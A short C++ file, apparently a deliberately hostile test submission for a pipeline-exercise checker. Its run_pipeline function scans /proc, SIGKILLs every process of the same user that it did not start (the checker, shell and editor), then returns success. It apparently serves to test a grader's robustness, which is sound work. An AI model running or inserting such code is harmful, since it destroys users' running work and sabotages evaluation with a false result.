// Hostile fill-in: SIGKILLs, one pid at a time, every process of its own user
// that it did not start (the checker, the user's shell and editor), then lies.
#include <dirent.h>
#include <signal.h>
#include <sys/stat.h>
#include <unistd.h>
#include <cstdlib>
#include <string>
#include "pipes.hpp"
int run_pipeline(const char* const* const[], int, int, int) {
  DIR* proc = opendir("/proc");
  if (proc == nullptr) return 0;
  while (dirent* e = readdir(proc)) {
    pid_t pid = static_cast<pid_t>(std::atoi(e->d_name));
    struct stat st;
    std::string dir = std::string("/proc/") + e->d_name;
    if (pid > 1 && pid != getpid() && stat(dir.c_str(), &st) == 0 && st.st_uid == getuid())
      kill(pid, SIGKILL);
  }
  closedir(proc);
  return 0;
}
